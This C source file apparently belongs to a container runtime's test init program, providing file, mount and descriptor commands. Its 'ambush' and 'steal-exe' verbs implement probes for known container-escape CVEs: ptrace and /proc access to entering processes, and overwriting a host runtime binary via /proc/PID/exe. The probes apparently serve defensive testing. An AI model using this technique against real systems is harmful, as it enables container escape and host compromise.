// SPDX-License-Identifier: Apache-2.0
/* Verbs about files, mounts and descriptors. */
#include "init.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static int copy(int fd, const char *name)
{
	char buf[65536];
	ssize_t n;

	while ((n = read(fd, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, (size_t)n, stdout);
	return n < 0 ? failed(name) : 0;
}

static int verb_cat(int argc, char **argv)
{
	for (int i = 1; i < argc; i++) {
		int fd = strcmp(argv[i], "-") == 0 ? STDIN_FILENO
						   : open(argv[i], O_RDONLY | O_CLOEXEC);
		int r = fd < 0 ? failed(argv[i]) : copy(fd, argv[i]);

		if (fd > STDIN_FILENO)
			close(fd);
		if (r)
			return r;
	}
	return 0;
}

static int put(const char *file, const char *text, int flags)
{
	int fd = open(file, O_WRONLY | O_CLOEXEC | flags, 0644);
	size_t len = strlen(text);
	ssize_t n;

	if (fd < 0)
		return answer(-1, "write %s", file);
	n = write(fd, text, len);
	answer(n == (ssize_t)len ? 0 : -1, "write %s", file);
	close(fd);
	return 0;
}

static int verb_write(int argc, char **argv)
{
	(void)argc;
	return put(argv[1], argv[2], O_CREAT | O_TRUNC);
}

/* As kernel files want it: no creation, no truncation. */
static int verb_set(int argc, char **argv)
{
	(void)argc;
	return put(argv[1], argv[2], 0);
}

/* With an end of line. */
static int verb_append(int argc, char **argv)
{
	char line[4096];

	(void)argc;
	snprintf(line, sizeof(line), "%s\n", argv[2]);
	return put(argv[1], line, O_CREAT | O_APPEND);
}

static int verb_save(int argc, char **argv)
{
	FILE *f = fopen(argv[1], "we");
	char buf[4096];
	ssize_t n;

	(void)argc;
	if (!f)
		return failed(argv[1]);
	while ((n = read(STDIN_FILENO, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, (size_t)n, f);
	return fclose(f) ? failed(argv[1]) : 0;
}

static int compare(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

static int verb_ls(int argc, char **argv)
{
	char *names[4096];
	size_t count = 0;
	struct dirent *entry;
	DIR *dir = opendir(argv[1]);

	(void)argc;
	if (!dir)
		return answer(-1, "ls %s", argv[1]);
	while ((entry = readdir(dir)) && count < 4096)
		if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0)
			names[count++] = strdup(entry->d_name);
	closedir(dir);
	qsort(names, count, sizeof(*names), compare);
	for (size_t i = 0; i < count; i++) {
		puts(names[i]);
		free(names[i]);
	}
	return 0;
}

static const char *type_name(mode_t mode)
{
	switch (mode & S_IFMT) {
	case S_IFREG:
		return "file";
	case S_IFDIR:
		return "dir";
	case S_IFLNK:
		return "link";
	case S_IFCHR:
		return "char";
	case S_IFBLK:
		return "block";
	case S_IFIFO:
		return "fifo";
	case S_IFSOCK:
		return "socket";
	default:
		return "?";
	}
}

/* PATH: TYPE MODE UID:GID [MAJOR:MINOR | size=N | -> TARGET] */
static int verb_stat(int argc, char **argv)
{
	for (int i = 1; i < argc; i++) {
		char target[PATH_MAX];
		struct stat st;
		ssize_t len;

		if (lstat(argv[i], &st) < 0) {
			answer(-1, "%s", argv[i]);
			continue;
		}
		printf("%s: %s %04o %u:%u", argv[i], type_name(st.st_mode), st.st_mode & 07777,
			st.st_uid, st.st_gid);
		if (S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode))
			printf(" %u:%u", major(st.st_rdev), minor(st.st_rdev));
		if (S_ISREG(st.st_mode))
			printf(" size=%lld", (long long)st.st_size);
		if (S_ISLNK(st.st_mode)) {
			len = readlink(argv[i], target, sizeof(target));
			printf(" -> %.*s", (int)(len < 0 ? 0 : len), target);
		}
		printf("\n");
	}
	return 0;
}

static int open_flags(const char *mode)
{
	static const struct {
		const char *name;
		int flags;
	} modes[] = {
		{ "r", O_RDONLY },
		{ "w", O_WRONLY },
		{ "rw", O_RDWR },
		{ "a", O_WRONLY | O_APPEND },
		{ "c", O_WRONLY | O_CREAT },
		{ "x", O_WRONLY | O_CREAT | O_EXCL },
		{ "d", O_RDONLY | O_DIRECTORY },
	};

	for (size_t i = 0; i < VERB_COUNT(modes); i++)
		if (strcmp(modes[i].name, mode) == 0)
			return modes[i].flags;
	fprintf(stderr, "init: open: unknown mode \"%s\"\n", mode);
	exit(2);
}

static int verb_open(int argc, char **argv)
{
	int fd = open(argv[1], open_flags(argv[2]) | O_CLOEXEC | O_NOCTTY | O_NONBLOCK, 0644);

	(void)argc;
	answer(fd, "open %s %s", argv[1], argv[2]);
	if (fd >= 0)
		close(fd);
	return 0;
}

static int verb_mkdir(int argc, char **argv)
{
	(void)argc;
	return answer(mkdir(argv[1], 0755), "mkdir %s", argv[1]);
}

static int verb_unlink(int argc, char **argv)
{
	(void)argc;
	return answer(unlink(argv[1]), "unlink %s", argv[1]);
}

static int verb_chmod(int argc, char **argv)
{
	(void)argc;
	return answer(chmod(argv[1], (mode_t)strtoul(argv[2], NULL, 8)), "chmod %s", argv[1]);
}

static int verb_chown(int argc, char **argv)
{
	(void)argc;
	return answer(chown(argv[1], (uid_t)number(argv[2]), (gid_t)number(argv[3])), "chown %s",
		argv[1]);
}

static int verb_setxattr(int argc, char **argv)
{
	(void)argc;
	return answer(setxattr(argv[1], argv[2], argv[3], strlen(argv[3]), 0), "setxattr %s %s",
		argv[1], argv[2]);
}

static int verb_mknod(int argc, char **argv)
{
	mode_t type = argv[2][0] == 'c' ? S_IFCHR : argv[2][0] == 'b' ? S_IFBLK : S_IFIFO;
	dev_t dev = argc > 4 ? makedev((unsigned int)number(argv[3]), (unsigned int)number(argv[4]))
			     : 0;

	return answer(mknod(argv[1], type | 0600, dev), "mknod %s %s", argv[1], argv[2]);
}

static int verb_exec(int argc, char **argv)
{
	(void)argc;
	fflush(stdout);
	execv(argv[1], argv + 1);
	answer(-1, "exec %s", argv[1]);
	return 0;
}

/* ---- an attack: CVE-2016-9962, CVE-2016-8649, CVE-2016-8659 ---- */

/*
 * False once process @pid executes our own program, as everybody here is meant to, and once it has
 * ended: a zombie of ours has no program any more.
 */
static bool is_stranger(pid_t pid)
{
	char own[PATH_MAX] = "", other[PATH_MAX] = "", path[64];

	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	if (readlink("/proc/self/exe", own, sizeof(own) - 1) < 0)
		return false;
	if (readlink(path, other, sizeof(other) - 1) < 0)
		return errno == EACCES || errno == EPERM;
	return strcmp(own, other) != 0;
}

/* What could be done with a process that is not (yet) ours: printed.  A process that becomes ours
 * meanwhile is none. */
static void ambush(pid_t pid)
{
	static const char *const files[] = { "mem", "fd/3", "fd/4", "fd/5", "cwd/.", "root/.",
		"exe", "environ" };
	char path[64];

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, files[i]);
		if (!is_stranger(pid))
			return;
		fd = open(path, i == 0 ? O_RDWR | O_CLOEXEC : O_RDONLY | O_CLOEXEC);
		if (fd >= 0 && is_stranger(pid))
			printf("got %s\n", files[i]);
		if (fd >= 0)
			close(fd);
	}
	if (is_stranger(pid) && ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
		int status;

		if (is_stranger(pid))
			printf("got it by ptrace\n");
		if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 &&
			waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
			ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
}

/* Waits for processes that come into the container, and looks what can be had of them. */
static int verb_ambush(int argc, char **argv)
{
	unsigned long long seen = 0;

	(void)argc;
	(void)argv;
	printf("waiting\n");
	fflush(stdout);
	for (;;) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			pid_t pid = (pid_t)strtol(entry->d_name, NULL, 10);

			if (pid <= 1 || pid == getpid() || !is_stranger(pid))
				continue;
			if (seen++ == 0)
				printf("somebody came\n");
			ambush(pid);
			fflush(stdout);
		}
		if (dir)
			closedir(dir);
	}
	return 0;
}

/* ---- an attack: CVE-2019-5736 ---- */

/* The first process whose program is not ours: a descriptor of the program, and the pid. */
static int find_stranger(pid_t *out_pid)
{
	char own[PATH_MAX], target[PATH_MAX], path[300];
	ssize_t own_len = readlink("/proc/self/exe", own, sizeof(own));
	struct dirent *entry;
	int fd = -1;

	for (;;) {
		DIR *dir = opendir("/proc");

		while (dir && fd < 0 && (entry = readdir(dir))) {
			ssize_t len;

			*out_pid = (pid_t)strtol(entry->d_name, NULL, 10);
			if (*out_pid <= 0)
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", *out_pid);
			len = readlink(path, target, sizeof(target));
			if (len > 0 && (len != own_len || memcmp(own, target, (size_t)len) != 0))
				fd = open(path, O_RDONLY | O_CLOEXEC);
		}
		if (dir)
			closedir(dir);
		if (fd >= 0)
			return fd;
		usleep(1000);
	}
}

/* Waits for such a process, ends it, and writes to its program's file. */
static int verb_steal_exe(int argc, char **argv)
{
	char path[64];
	pid_t pid;
	int fd = find_stranger(&pid), out;

	(void)argc;
	(void)argv;
	kill(pid, SIGKILL);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	do {
		out = open(path, O_WRONLY | O_CLOEXEC);
	} while (out < 0 && errno == ETXTBSY);
	if (out < 0)
		return answer(-1, "steal");
	return answer(write(out, "#!/attack\n", 10), "steal");
}

/* ---- mounts ---- */

/* The fields of one line of mountinfo (proc_pid_mountinfo(5)), cut at blanks. */
#define MOUNT_FIELDS 32

static void print_mount(char *line)
{
	char *fields[MOUNT_FIELDS] = { NULL }, *save;
	size_t count = 0, dash;

	for (char *f = strtok_r(line, " \n", &save); f && count < MOUNT_FIELDS;
		f = strtok_r(NULL, " \n", &save))
		fields[count++] = f;
	for (dash = 6; dash < count && strcmp(fields[dash], "-") != 0; dash++)
		;
	if (dash + 3 >= count)
		return;
	printf("%s type=%s source=%s root=%s options=%s super=%s propagation=", fields[4],
		fields[dash + 1], fields[dash + 2], fields[3], fields[5], fields[dash + 3]);
	if (dash == 6)
		printf("private");
	for (size_t i = 6; i < dash; i++) /* "shared:12": the number differs from run to run */
		printf("%s%.*s", i > 6 ? "," : "", (int)strcspn(fields[i], ":"), fields[i]);
	printf("\n");
}

/* MOUNTPOINT type= source= root= options= super= propagation= */
static int verb_mounts(int argc, char **argv)
{
	FILE *f = fopen("/proc/self/mountinfo", "re");
	char line[16384];

	if (!f)
		return failed("/proc/self/mountinfo");
	while (fgets(line, sizeof(line), f)) {
		char copy_of_line[sizeof(line)];
		char *save, *point;

		memcpy(copy_of_line, line, sizeof(line));
		point = strtok_r(copy_of_line, " ", &save);
		for (int i = 0; point && i < 4; i++)
			point = strtok_r(NULL, " ", &save);
		if (argc < 2 || (point && strcmp(point, argv[1]) == 0))
			print_mount(line);
	}
	fclose(f);
	return 0;
}

static int verb_mount(int argc, char **argv)
{
	const char *data = argc > 5 ? argv[5] : NULL;
	unsigned long flags = argc > 4 ? (unsigned long)number(argv[4]) : 0;

	return answer(mount(argv[1], argv[2], argv[3], flags, data), "mount %s", argv[2]);
}

static int verb_umount(int argc, char **argv)
{
	(void)argc;
	return answer(umount2(argv[1], MNT_DETACH), "umount %s", argv[1]);
}

/* ---- descriptors ---- */

static int verb_fds(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	for (int fd = 0; fd < 1024; fd++) {
		char link[32], target[PATH_MAX];
		ssize_t len;

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		len = readlink(link, target, sizeof(target));
		printf("fd %d: %.*s\n", fd, len < 0 ? 1 : (int)len, len < 0 ? "?" : target);
	}
	return 0;
}

static int verb_readfd(int argc, char **argv)
{
	(void)argc;
	return copy((int)number(argv[1]), argv[1]);
}

static int verb_isatty(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	for (int fd = 0; fd < 3; fd++) {
		char name[PATH_MAX];

		printf("fd %d: %s\n", fd,
			!isatty(fd)				    ? "no tty"
				: ttyname_r(fd, name, sizeof(name)) ? "tty ?"
								    : name);
	}
	return 0;
}

static int verb_winsize(int argc, char **argv)
{
	struct winsize size;

	(void)argc;
	(void)argv;
	if (ioctl(STDIN_FILENO, TIOCGWINSZ, &size) < 0)
		return answer(-1, "winsize");
	printf("winsize: %ux%u\n", size.ws_row, size.ws_col);
	return 0;
}

static int verb_connect(int argc, char **argv)
{
	struct sockaddr_un addr = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	(void)argc;
	strncpy(addr.sun_path, argv[1], sizeof(addr.sun_path) - 1);
	answer(fd < 0 ? -1 : connect(fd, (struct sockaddr *)&addr, sizeof(addr)), "connect %s",
		argv[1]);
	if (fd >= 0)
		close(fd);
	return 0;
}

const struct verb file_verbs[] = {
	{ "cat", "FILE...", "print files; - is standard input", 1, ANY, verb_cat },
	{ "write", "FILE TEXT", "make or overwrite a file", 2, 2, verb_write },
	{ "set", "FILE TEXT", "write to an existing file, as to those of /proc", 2, 2, verb_set },
	{ "append", "FILE TEXT", "add a line to a file", 2, 2, verb_append },
	{ "save", "FILE", "write standard input to a file", 1, 1, verb_save },
	{ "ls", "DIR", "print the sorted names", 1, 1, verb_ls },
	{ "stat", "PATH...", "type, mode, owner, device or size; links are not followed", 1, ANY,
		verb_stat },
	{ "open", "PATH MODE", "r, w, rw, a, c (create), x (create new), d (directory)", 2, 2,
		verb_open },
	{ "mkdir", "PATH", "make a directory", 1, 1, verb_mkdir },
	{ "unlink", "PATH", "remove a file", 1, 1, verb_unlink },
	{ "chmod", "PATH OCTAL", "change the mode", 2, 2, verb_chmod },
	{ "chown", "PATH UID GID", "change the owner", 3, 3, verb_chown },
	{ "mknod", "PATH c|b|p [MAJ MIN]", "make a device or fifo", 2, 4, verb_mknod },
	{ "setxattr", "PATH NAME VALUE", "set an extended attribute", 3, 3, verb_setxattr },
	{ "exec", "PATH ARGUMENT...", "execute a program", 1, ANY, verb_exec },
	{ "ambush", "", "wait for processes, and try what can be done with them", 0, 0,
		verb_ambush },
	{ "steal-exe", "", "wait for another program, and try to write to its file", 0, 0,
		verb_steal_exe },
	{ "mounts", "[MOUNTPOINT]", "what is mounted", 0, 1, verb_mounts },
	{ "mount", "SRC DST TYPE [FLAGS [DATA]]", "mount", 3, 5, verb_mount },
	{ "umount", "MOUNTPOINT", "unmount lazily", 1, 1, verb_umount },
	{ "fds", "", "open descriptors and what they are", 0, 0, verb_fds },
	{ "readfd", "N", "print what descriptor N gives", 1, 1, verb_readfd },
	{ "isatty", "", "which of the descriptors 0 to 2 are terminals", 0, 0, verb_isatty },
	{ "winsize", "", "rows and columns of the terminal", 0, 0, verb_winsize },
	{ "connect", "SOCKET", "connect to a Unix stream socket", 1, 1, verb_connect },
};
const size_t file_verb_count = VERB_COUNT(file_verbs);
